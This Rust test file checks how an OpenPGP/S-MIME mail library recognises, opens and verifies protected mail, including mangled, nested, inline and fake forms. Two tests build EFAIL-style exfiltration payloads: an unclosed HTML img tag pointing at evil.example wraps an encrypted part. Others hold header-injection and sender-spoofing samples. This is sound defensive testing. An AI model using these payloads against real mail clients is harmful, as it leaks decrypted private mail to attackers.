//! The forms that protected mail takes on its way, and what only looks like them.

use mail::Message;
use sealing::FormKind;
use sealing::LayerKind;
use sealing::LayerState;
use sealing::Protection;
use sealing::openpgp::armor;
use sealing::recognise;
use sequoia_openpgp as pgp;

use pgp::serialize::stream::Encryptor;
use pgp::serialize::stream::LiteralWriter;
use pgp::serialize::stream::Signer;
use std::io::Write;

use crate::support::*;

/// The armored message inside a sealed mail.
fn armored(sealed: &Message) -> String {
    let text = text_of(sealed);
    let start = text.find("-----BEGIN PGP MESSAGE-----").unwrap();
    let end = text.find("-----END PGP MESSAGE-----").unwrap() + "-----END PGP MESSAGE-----".len();
    text[start..end].replace("\r\n", "\n")
}

/// An armored message that holds exactly this text, as people paste it into a mail.
fn inline(world: &World, to: &str, text: &str) -> String {
    let usable = world.usable(to);
    let mut binary = Vec::new();
    let key = usable.cert().keys().find(|ka| ka.key().fingerprint() == *usable.subkey()).unwrap();
    let recipient = pgp::serialize::stream::Recipient::new(
        pgp::types::Features::empty(),
        pgp::KeyHandle::from(key.key().keyid()),
        key.key(),
    );
    let message = pgp::serialize::stream::Message::new(&mut binary);
    let message = Encryptor::for_recipients(message, [recipient]).build().unwrap();
    let mut message = LiteralWriter::new(message).build().unwrap();
    message.write_all(text.as_bytes()).unwrap();
    message.finalize().unwrap();
    let armored = armor::armor(&binary, armor::Kind::Message).unwrap();
    String::from_utf8(armored).unwrap().replace("\r\n", "\n")
}

fn clear_signed(secret: &pgp::Cert, text: &str) -> String {
    let mut out = Vec::new();
    let pair = secret.primary_key().key().clone().parts_into_secret().unwrap().into_keypair().unwrap();
    let message = pgp::serialize::stream::Message::new(&mut out);
    let signer = Signer::new(message, pair).unwrap().cleartext();
    let created = std::time::UNIX_EPOCH + std::time::Duration::from_secs(NOW as u64);
    let mut signer = signer.creation_time(created).build().unwrap();
    signer.write_all(text.as_bytes()).unwrap();
    signer.finalize().unwrap();
    String::from_utf8(out).unwrap()
}

fn tsk(secret: &sealing::openpgp::SecretCert) -> pgp::Cert {
    <pgp::Cert as pgp::parse::Parse<_>>::from_bytes(&secret.to_secret_bytes().unwrap()[..]).unwrap()
}

#[test]
fn what_exchange_makes_of_encrypted_mail_is_opened() {
    let (world, alice, _) = World::alice_and_bob();
    let message = text_letter();
    let armored = armored(&sealed(&message, &plain_seal(&[world.usable(BOB)], Some(&alice))));
    let control = "--x\nContent-Type: application/pgp-encrypted;\n name=\"PGPMIME Versions Identification\"\n\
                   Content-Transfer-Encoding: base64\n\nVmVyc2lvbjogMQ==\n";
    let base64 = base64(armored.replace('\n', "\r\n").as_bytes());
    for body in [
        format!(
            "--x\nContent-Type: text/plain; charset=\"us-ascii\"\n\n\n{control}--x\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n\n{armored}\n--x--\n"
        ),
        format!(
            "--x\nContent-Type: text/plain\n\n\n{control}--x\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n{base64}\n--x--\n"
        ),
        format!("{control}--x\nContent-Type: application/octet-stream\n\n{armored}\n--x--\n"),
    ] {
        let mangled = letter(&format!("Content-Type: multipart/mixed; boundary=\"x\"\n\n{body}"));
        assert_eq!(recognise(&mangled).protection, Protection::Encrypted, "{body}");
        let opened = world.open(&mangled);
        assert_eq!(opened.message.unwrap().to_vec().unwrap(), message.to_vec().unwrap());
        assert_eq!(opened.layers[1].state, LayerState::Valid);
    }
}

#[test]
fn what_outlook_makes_of_signed_mail_is_verified() {
    let (world, alice, _) = World::alice_and_bob();
    let signed = text_of(&sealed(&text_letter(), &plain_seal(&[], Some(&alice))));
    let start = signed.find("multipart/signed").unwrap();
    let end = signed[start..].find(" boundary").unwrap() + start;
    let mangled = format!("{}multipart/mixed;\r\n{}", &signed[..start], &signed[end..]);
    let mangled = Message::parse(mangled.as_bytes());
    assert_eq!(recognise(&mangled).protection, Protection::Signed);
    let opened = world.open(&mangled);
    assert_eq!(opened.layers.len(), 1);
    assert_eq!(opened.layers[0].state, LayerState::Valid, "{:?}", opened.layers);
    assert!(opened.edits.is_empty());
}

fn base64(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    let armor = String::from_utf8(armor::armor(bytes, armor::Kind::Message).unwrap()).unwrap();
    let mut out = String::new();
    for line in armor.lines().skip(2).take_while(|line| !line.starts_with(['=', '-'])) {
        writeln!(out, "{line}").unwrap();
    }
    out
}

#[test]
fn binary_and_transfer_encoded_payloads_open() {
    let (world, ..) = World::alice_and_bob();
    let message = text_letter();
    let armored = armored(&sealed(&message, &plain_seal(&[world.usable(BOB)], None)));
    let (_, binary) = armor::dearmor(armored.as_bytes(), 1 << 20).unwrap();
    for payload in [base64(&binary), base64(armored.as_bytes())] {
        let other = letter(&format!(
            "Content-Type: multipart/encrypted; boundary=\"x\"; protocol=\"application/pgp-encrypted\"\n\n--x\n\
             Content-Type: application/pgp-encrypted\n\nVersion: 1\n--x\nContent-Type: application/octet-stream\n\
             Content-Transfer-Encoding: base64\n\n{payload}\n--x--\n"
        ));
        assert_eq!(world.open(&other).message.unwrap().to_vec().unwrap(), message.to_vec().unwrap());
    }
}

#[test]
fn a_mailing_list_footer_beside_a_signed_or_encrypted_part_is_kept() {
    let (world, alice, _) = World::alice_and_bob();
    let message = text_letter();
    for spec in [plain_seal(&[], Some(&alice)), plain_seal(&[world.usable(BOB)], Some(&alice))] {
        let part = String::from_utf8(entity_bytes(&sealed(&message, &spec))).unwrap().replace("\r\n", "\n");
        let listed = letter(&format!(
            "Content-Type: multipart/mixed; boundary=\"list\"\n\n--list\n{part}\n--list\n\
             Content-Type: text/plain\n\n_____\nunsubscribe here\n--list--\n"
        ));
        assert_eq!(recognise(&listed).protection, Protection::None);
        let opened = world.open(&listed);
        // The footer is nobody's words.
        assert_eq!(opened.layers.last().unwrap().state, LayerState::Part, "{:?}", opened.layers);
        if let Some(inside) = opened.message {
            let text = text_of(&inside);
            assert!(text.contains("--list\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nHello Bob,\r\n\r\nat noon?\r\n\r\n--list\r\n"), "{text}");
            assert!(text.contains("unsubscribe here"));
        }
    }
}

#[test]
fn an_encrypted_part_beside_what_some_take_for_html_is_not_opened_in_place() {
    let (world, ..) = World::alice_and_bob();
    let part =
        String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[world.usable(BOB)], None))))
            .unwrap();
    let open = |types: &str| {
        let message = letter(&format!(
            "Content-Type: multipart/mixed; boundary=\"e\"\n\n--e\n{types}\n<img src=\"http://evil.example/\n\
             --e\n{}\n--e\n{types}\n\">\n--e--\n",
            part.replace("\r\n", "\n")
        ));
        world.open(&message).layers[0].state
    };
    assert_eq!(open("Content-Type: text/plain\n"), LayerState::Opened);
    assert_eq!(open("Content-Type: text/plain\nContent-Type: text/html\n"), LayerState::Unsupported);
}

/// What is looked at again for every layer must not grow with the square of the parts: this one took minutes.
#[test]
fn as_many_texts_as_a_message_may_have_are_looked_at_in_turn() {
    let (world, ..) = World::alice_and_bob();
    let part = "--m\nContent-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nhQEMA\n-----END PGP MESSAGE-----\n\n";
    let parts = part.repeat(mail::Limits::default().parts - 1);
    let crowd = letter(&format!("Content-Type: multipart/mixed; boundary=m\n\n{parts}--m--\n"));
    let opened = world.open(&crowd);
    assert_eq!(opened.layers.len(), 17);
    assert_eq!(opened.layers[16].why.as_deref(), Some("too many layers"));
    assert!(opened.message.is_none());
}

#[test]
fn an_encrypted_part_beside_html_is_not_opened_in_place() {
    let (world, ..) = World::alice_and_bob();
    let part =
        String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[world.usable(BOB)], None))))
            .unwrap();
    for subtype in ["mixed", "related", "alternative"] {
        let attack = letter(&format!(
            "Content-Type: multipart/{subtype}; boundary=\"e\"\n\n--e\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n\
             --e\n{}\n--e\nContent-Type: text/html\n\n\">\n--e--\n",
            part.replace("\r\n", "\n")
        ));
        let opened = world.open(&attack);
        assert_eq!(opened.layers[0].state, LayerState::Unsupported);
        assert!(opened.message.is_none());
    }
}

#[test]
fn a_message_wrapped_by_a_list_is_opened_but_its_signer_is_not_the_list() {
    let (world, alice, _) = World::alice_and_bob();
    let inner = sealed(&text_letter(), &plain_seal(&[world.usable(BOB)], Some(&alice)));
    let wrapped = Message::parse(
        format!(
            "From: list@lists.example\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n{}",
            text_of(&inner)
        )
        .as_bytes(),
    );
    let opened = world.open(&wrapped);
    let states: Vec<_> = opened.layers.iter().map(|layer| layer.state).collect();
    assert_eq!(states, [LayerState::Opened, LayerState::WrongSigner]);
    let text = text_of(&opened.message.unwrap());
    assert!(text.contains("Content-Type: message/rfc822\r\n\r\nFrom: Alice"), "{text}");
    assert!(text.ends_with("at noon?\r\n"), "{text}");
}

#[test]
fn encryption_inside_a_signature_is_opened_and_the_signature_told() {
    let (world, alice, _) = World::alice_and_bob();
    let message = text_letter();
    let encrypted = sealed(&message, &plain_seal(&[world.usable(BOB)], None));
    let entity = String::from_utf8(entity_bytes(&encrypted)).unwrap();
    let signature = detached(&tsk(&alice), entity.trim_end_matches("\r\n").as_bytes());
    let both = letter(&format!(
        "Content-Type: multipart/signed; boundary=\"s\"; micalg=pgp-sha512; protocol=\"application/pgp-signature\"\n\n--s\n{}\n--s\n\
         Content-Type: application/pgp-signature\n\n{signature}\n--s--\n",
        entity.trim_end_matches("\r\n").replace("\r\n", "\n")
    ));
    assert_eq!(recognise(&both).protection, Protection::SignedAndEncrypted);
    let opened = world.open(&both);
    let layers: Vec<_> = opened.layers.iter().map(|layer| (layer.kind, layer.state)).collect();
    assert_eq!(layers, [(LayerKind::Signed, LayerState::Valid), (LayerKind::Encrypted, LayerState::Opened)]);
    assert_eq!(opened.message.unwrap().to_vec().unwrap(), message.to_vec().unwrap());
}

fn detached(secret: &pgp::Cert, data: &[u8]) -> String {
    let mut out = Vec::new();
    let pair = secret.primary_key().key().clone().parts_into_secret().unwrap().into_keypair().unwrap();
    let created = std::time::UNIX_EPOCH + std::time::Duration::from_secs(NOW as u64);
    let message = pgp::serialize::stream::Message::new(&mut out);
    let mut signer = Signer::new(message, pair).unwrap().detached().creation_time(created).build().unwrap();
    signer.write_all(data).unwrap();
    signer.finalize().unwrap();
    String::from_utf8(armor::armor(&out, armor::Kind::Signature).unwrap()).unwrap().replace("\r\n", "\n")
}

#[test]
fn layers_inside_layers_are_opened_until_one_is_not_ours() {
    let (mut world, alice, bob) = World::alice_and_bob();
    let carol = world.add("carol@beta.example", KeyVersion::V4, KeySuite::Curve25519);
    let user = sealed(&text_letter(), &plain_seal(&[world.usable("carol@beta.example")], Some(&alice)));
    // What the gateway of another domain adds: the domain's key around the user's.
    let entity = String::from_utf8(entity_bytes(&user)).unwrap();
    let outer = inline(&world, BOB, &entity);
    let nested = letter(&format!(
        "Content-Type: multipart/encrypted; boundary=\"o\"; protocol=\"application/pgp-encrypted\"\n\n--o\n\
         Content-Type: application/pgp-encrypted\n\nVersion: 1\n--o\nContent-Type: application/octet-stream\n\n{outer}\n--o--\n"
    ));
    let all = world.open(&nested);
    let states: Vec<_> = all.layers.iter().map(|layer| layer.state).collect();
    assert_eq!(states, [LayerState::Opened, LayerState::Opened, LayerState::Valid]);
    world.lose(&carol);
    let one = world.open(&nested);
    let states: Vec<_> = one.layers.iter().map(|layer| layer.state).collect();
    assert_eq!(states, [LayerState::Opened, LayerState::NoKey]);
    assert_eq!(entity_bytes(&one.message.unwrap()), entity.as_bytes());
    world.lose(&bob);
    let none = world.open(&nested);
    assert_eq!((none.layers.len(), none.layers[0].state), (1, LayerState::NoKey));
    assert!(none.edits.is_empty() && none.message.is_none());
}

use sealing::openpgp::KeySuite;
use sealing::openpgp::KeyVersion;

#[test]
fn inline_encrypted_text_becomes_text_again() {
    let (world, ..) = World::alice_and_bob();
    let block = inline(&world, BOB, "Grüße aus dem Urlaub am Meer,\nAlice\n");
    let message = letter(&format!("Content-Type: text/plain; charset=us-ascii\n\n\n{block}"));
    assert_eq!(recognise(&message).protection, Protection::Encrypted);
    let opened = world.open(&message);
    assert_eq!(opened.layers[0].state, LayerState::Opened);
    assert!(text_of(&opened.message.unwrap()).ends_with(
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=C3=BC=C3=9Fe aus dem Urlaub am Meer,\r\nAlice\r\n"
    ));
}

#[test]
fn inline_encrypted_text_in_a_multipart_is_opened_in_its_place() {
    let (world, ..) = World::alice_and_bob();
    let block = inline(&world, BOB, "secret\n");
    let quoted = block.replace('=', "=3D");
    let message = letter(&format!(
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\
         Content-Disposition: inline\n\n{quoted}\n--m\nContent-Type: application/pdf\n\npdf\n--m--\n"
    ));
    assert_eq!(recognise(&message).protection, Protection::None);
    let text = text_of(&world.open(&message).message.unwrap());
    assert!(text.contains(
        "--m\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\nContent-Disposition: inline\r\n\r\nsecret\r\n\r\n--m\r\nContent-Type: application/pdf\r\n"
    ), "{text}");
}

#[test]
fn a_list_footer_after_inline_armor_is_kept_and_makes_a_signed_text_invalid() {
    let (world, alice, _) = World::alice_and_bob();
    let block = inline(&world, BOB, "secret\n");
    let message = letter(&format!("Content-Type: text/plain\n\n{block}\n-- \nlist footer\n"));
    assert_eq!(recognise(&message).protection, Protection::None);
    let text = text_of(&world.open(&message).message.unwrap());
    assert!(text.contains("\r\n\r\nsecret\r\n\r\n--=20\r\nlist footer\r\n"), "{text}");

    let signed = clear_signed(&tsk(&alice), "hello\n- dash\nFrom me\n");
    let message = letter(&format!("Content-Type: text/plain\n\n{signed}"));
    assert_eq!(recognise(&message).protection, Protection::Signed);
    let opened = world.open(&message);
    assert_eq!(opened.layers[0].state, LayerState::Valid, "{:?}", opened.layers);
    assert!(opened.edits.is_empty());
    let message = letter(&format!("Content-Type: text/plain\n\n{signed}\nlist footer\n"));
    assert_eq!(world.open(&message).layers[0].state, LayerState::Invalid);
    for unsigned in [
        "Comment: pay Eve\n",
        "Hash: pay Eve at once, says Alice, with the money of the whole house of Bob\n",
        "pay Eve\n",
    ] {
        let text = signed.replacen("MESSAGE-----\n", &format!("MESSAGE-----\n{unsigned}"), 1);
        assert_ne!(text, signed);
        let message = letter(&format!("Content-Type: text/plain\n\n{text}"));
        assert_eq!(world.open(&message).layers[0].state, LayerState::Invalid, "{unsigned}");
    }
    let message = letter(&format!("Content-Type: text/plain\n\n{}", signed.replace("hello", "hallo")));
    assert_eq!(world.open(&message).layers[0].state, LayerState::Invalid);
}

#[test]
fn words_that_look_like_armor_are_not_protection() {
    let (world, ..) = World::alice_and_bob();
    let block = inline(&world, BOB, "secret\n");
    let quoted: String = block.lines().map(|line| format!("> {line}\n")).collect();
    let indented: String = block.lines().map(|line| format!(" {line}\n")).collect();
    for text in [
        "look at this: -----BEGIN PGP MESSAGE----- is how it starts\n".to_owned(),
        quoted,
        indented,
        format!("Hello,\n\n{block}"),
        block.lines().take(4).map(|line| format!("{line}\n")).collect(),
        "-----BEGIN PGP MESSAGE-----\n\nnot base64 at all\n-----END PGP MESSAGE-----\n".to_owned(),
    ] {
        let message = letter(&format!("Content-Type: text/plain\n\n{text}"));
        assert_eq!(recognise(&message).protection, Protection::None, "{text}");
        assert!(world.open(&message).edits.is_empty(), "{text}");
    }
    let subject = Message::parse(b"Subject: -----BEGIN PGP MESSAGE-----\r\n\r\nmultipart/encrypted\r\n");
    assert_eq!(recognise(&subject).forms, []);
}

#[test]
fn a_claim_of_encryption_over_clear_text_is_not_protection() {
    for payload in [
        "my secret plan\n",
        "-----BEGIN PGP MESSAGE-----\n\nyxRiAGZpbGUAAAAAaGVsbG8=\n-----END PGP MESSAGE-----\n",
    ] {
        let message = letter(&format!(
            "Content-Type: multipart/encrypted; boundary=\"x\"; protocol=\"application/pgp-encrypted\"\n\n--x\n\
             Content-Type: application/pgp-encrypted\n\nVersion: 1\n--x\nContent-Type: application/octet-stream\n\n{payload}--x--\n"
        ));
        assert_eq!(recognise(&message).protection, Protection::None);
        let (world, ..) = World::alice_and_bob();
        let opened = world.open(&message);
        assert_eq!(opened.layers[0].state, LayerState::Damaged);
        assert!(opened.message.is_none());
    }
}

#[test]
fn smime_is_recognised_by_its_cms_content_type() {
    let cms = |oid: &str| {
        let mut der = vec![0x30, 0x82, 0x10, 0x00, 0x06, oid.len() as u8 / 2];
        der.extend((0..oid.len()).step_by(2).map(|at| u8::from_str_radix(&oid[at..at + 2], 16).unwrap()));
        base64(&der)
    };
    for (oid, claim, protection) in [
        ("2a864886f70d010703", "enveloped-data", Protection::Encrypted),
        ("2a864886f70d0109100117", "authEnveloped-data", Protection::Encrypted),
        ("2a864886f70d010702", "signed-data", Protection::Signed),
        ("2a864886f70d010702", "enveloped-data", Protection::Signed),
        ("2a864886f70d010701", "enveloped-data", Protection::None),
    ] {
        let message = letter(&format!(
            "Content-Type: application/pkcs7-mime; smime-type={claim}\nContent-Transfer-Encoding: base64\n\n{}",
            cms(oid)
        ));
        assert_eq!(recognise(&message).protection, protection, "{oid} {claim}");
    }
}

#[test]
fn forms_are_told_with_their_place() {
    let (world, alice, _) = World::alice_and_bob();
    let signed =
        String::from_utf8(entity_bytes(&sealed(&text_letter(), &plain_seal(&[], Some(&alice))))).unwrap();
    let block = inline(&world, BOB, "x\n");
    let message = letter(&format!(
        "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/plain\n\n{block}\n--m\n{}\n--m--\n",
        signed.replace("\r\n", "\n")
    ));
    let forms: Vec<_> = recognise(&message).forms.into_iter().map(|form| (form.kind, form.path)).collect();
    assert_eq!(forms, [(FormKind::PgpInlineEncrypted, vec![0]), (FormKind::PgpMimeSigned, vec![1])]);
}

#[test]
fn a_subject_encrypted_with_the_content_comes_back() {
    let (world, ..) = World::alice_and_bob();
    let inner = "Content-Type: text/plain; protected-headers=\"v1\"\nSubject: the true one\nFrom: eve@evil.example\n\nhi\n";
    let outer = inline(&world, BOB, inner);
    let message = letter(&format!(
        "Content-Type: multipart/encrypted; boundary=\"o\"; protocol=\"application/pgp-encrypted\"\n\n--o\n\
         Content-Type: application/pgp-encrypted\n\nVersion: 1\n--o\nContent-Type: application/octet-stream\n\n{outer}\n--o--\n"
    ));
    let opened = world.open(&message).message.unwrap();
    assert_eq!(opened.subject(), "the true one");
    assert_eq!(opened.from()[0].address.to_string(), ALICE);
}
